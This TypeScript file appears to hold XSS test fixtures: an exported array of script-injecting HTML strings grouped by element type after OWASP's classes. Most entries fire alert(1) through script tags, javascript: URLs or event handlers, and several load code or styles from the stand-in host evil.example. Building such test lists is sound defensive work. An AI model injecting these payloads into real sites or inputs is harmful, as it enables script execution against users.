/** Elements that load or run something, in many spellings. They follow the classes of OWASP's list. */
export const ELEMENTS: readonly string[] = [
  // script
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src="https://evil.example/x.js"></script>',
  '<script type=module>alert(1)</script>',
  '<script type=importmap>{"imports":{"react":"data:text/javascript,alert(1)"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>',
  '"><script>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<svg><script>alert(1)</script></svg>',
  '<math><script>alert(1)</script></math>',
  // frames and plug-ins
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=//evil.example sandbox="allow-scripts allow-same-origin"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  // elements that change the document around them
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  // forms
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form><button formaction="javascript:alert(1)">go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  // media
  '<video><source onerror="alert(1)"></video>',
  '<picture><source srcset=x onerror=alert(1)><img src=x></picture>',
  '<img srcset="x 1x, javascript:alert(1) 2x" onerror=alert(1)>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<map name=m><area shape=default href="javascript:alert(1)"></map><img usemap=#m>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
];
